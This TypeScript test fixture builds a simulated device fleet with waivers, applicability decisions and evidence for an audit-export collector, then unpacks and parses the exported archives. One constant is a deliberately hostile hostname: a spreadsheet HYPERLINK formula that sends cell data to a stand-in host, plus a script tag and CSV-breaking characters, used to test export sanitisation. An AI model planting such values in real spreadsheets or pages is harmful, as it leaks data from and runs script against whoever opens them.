// A small fleet with a month of history, waivers, Statement-of-Applicability decisions, manual evidence
// and a device with a hostile hostname, exported to archives the tests take apart.
import { createWriteStream } from 'node:fs';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import * as tar from 'tar';
import type { ExportSummary } from '../../collector/export/service.js';
import { DAY_MS, deliver, enrolTestDevice, fullChecks, servicesWithClock, type TestDevice } from './collector.js';

/** Hostile on purpose: spreadsheet formula, HTML, control characters, CSV quoting, trailing blank. */
export const HOSTILE_HOSTNAME = '=HYPERLINK("http://evil.example/"&A1,"x")<script>alert(1)</script>\u0007,"x" ';

export interface AuditFixture {
  env: Awaited<ReturnType<typeof servicesWithClock>>;
  devices: { steady: TestDevice; flaky: TestDevice; hostile: TestDevice; silent: TestDevice };
  from: string;
  to: string;
  waiverId: string;
  evidenceSha256: string;
  exportTo(file: string, envelopes?: 'cited' | 'period'): Promise<ExportSummary>;
  cleanup(): Promise<void>;
}

export async function auditFixture(): Promise<AuditFixture> {
  const env = await servicesWithClock(new Date('2026-02-20T12:00:00.000Z'));
  const day = (n: number) => new Date(Date.parse('2026-03-01T08:00:00.000Z') + n * DAY_MS).toISOString();
  const steady = await enrolTestDevice(env);
  const flaky = await enrolTestDevice(env);
  const hostile = await enrolTestDevice(env);
  const silent = await enrolTestDevice(env, 'gateway');
  // steady passes throughout; flaky fails disk encryption from day 10 and USB from day 20 (waived);
  // hostile fails the firewall; silent never attests. One attestation before the period starts. The
  // clock follows the attestations, as the collector's would.
  const send = async (d: TestDevice, n: number, outcomes: Record<string, 'pass' | 'fail' | 'unknown'> = {}, hostname?: string) => {
    env.clock.now = new Date(Date.parse(day(n)) + 3_600_000);
    await deliver(env, d, [{ collectedAt: day(n), checks: await fullChecks(outcomes, day(n)), ...(hostname ? { device: { hostname } } : {}) }]);
  };
  let waiverId = '';
  let evidenceSha256 = '';
  await send(steady, -3);
  for (const n of [1, 2, 3, 5, 9, 10, 12, 15, 16, 20, 23, 25]) {
    if ([2, 9, 16, 23].includes(n)) await send(steady, n);
    if ([1, 5, 10, 15, 20, 25].includes(n)) await send(flaky, n, { disk_encryption: n >= 10 ? 'fail' : 'pass', usb_storage: n >= 20 ? 'fail' : 'pass', time_sync: n === 15 ? 'unknown' : 'pass' });
    if ([3, 12].includes(n)) await send(hostile, n, { firewall: 'fail' }, HOSTILE_HOSTNAME);
    if (n === 20) {
      // The compliance team reacts during the period: a waiver, an SoA decision, a policy document.
      const waiver = await env.services.waivers.create({
        deviceId: flaky.id, checkId: 'usb_storage', reason: 'ultrasound cart exports DICOM to USB; port in a locked bay', approver: 'CISO Dana Reyes', expires: 60 * DAY_MS, actor: 'cli:ciso',
      });
      waiverId = waiver.id;
      await env.services.soa.decide({ control: '7.4', applicable: false, justification: 'physical monitoring is run by facilities under their ISMS', actor: 'cli:ciso' });
      const policyPdf = join(env.dataDir, 'isms-policy.pdf');
      await writeFile(policyPdf, '%PDF-1.7 information security policy v3\n');
      evidenceSha256 = (await env.services.soa.addEvidence({ control: '5.1', content: policyPdf, note: 'ISMS policy approved 2026-01-15', actor: 'cli:ciso' })).sha256;
    }
  }
  env.clock.now = new Date('2026-03-31T12:00:00.000Z');

  const from = '2026-03-01T00:00:00.000Z';
  const to = '2026-03-30T23:59:59.999Z';
  return {
    env,
    devices: { steady, flaky, hostile, silent },
    from,
    to,
    waiverId,
    evidenceSha256,
    async exportTo(file, envelopes = 'cited') {
      const out = createWriteStream(file);
      const summary = await env.services.exports.export({ from, to, out, archiveName: 'audit.tar.gz', actor: 'test', envelopes });
      await new Promise<void>((res) => (out.closed ? res() : out.once('close', () => res())));
      return summary;
    },
    cleanup: () => env.cleanup(),
  };
}

/** Extracts an archive; returns the directory and the files in archive order. */
export async function extract(file: string, dir: string): Promise<string[]> {
  await mkdir(dir, { recursive: true });
  const order: string[] = [];
  await tar.t({ file, onReadEntry: (e) => void order.push(e.path) });
  await tar.x({ file, cwd: dir });
  return order;
}

/** Re-packs a directory (as a person altering an export by hand would, with tar czf). */
export async function repack(dir: string, file: string, files: readonly string[]): Promise<void> {
  await tar.c({ gzip: true, file, cwd: dir, portable: true }, [...files]);
}

/** RFC 4180 CSV → rows of fields. */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field || row.length) rows.push([...row, field]);
  return rows;
}

export async function readJson<T>(file: string): Promise<T> {
  return JSON.parse(await readFile(file, 'utf8')) as T;
}
